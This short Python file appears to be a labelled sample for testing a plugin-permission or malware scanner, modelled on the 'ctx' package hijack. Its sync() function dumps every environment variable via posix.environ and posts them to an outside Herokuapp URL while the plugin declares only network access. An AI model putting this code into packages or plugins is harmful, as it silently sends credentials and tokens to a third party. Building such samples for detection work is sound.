# technique: posix.environ read (env twin) and sent over HTTP, plugin declares network only
# class: lowlevel
# source: Sonatype / SANS ISC, "ctx" hijack (environment variables exfiltrated)
# declares: network
import posix
import urllib.request


def sync():
    blob = repr(dict(posix.environ)).encode()
    urllib.request.urlopen("https://ctx-stats.herokuapp.com/", data=blob, timeout=5)
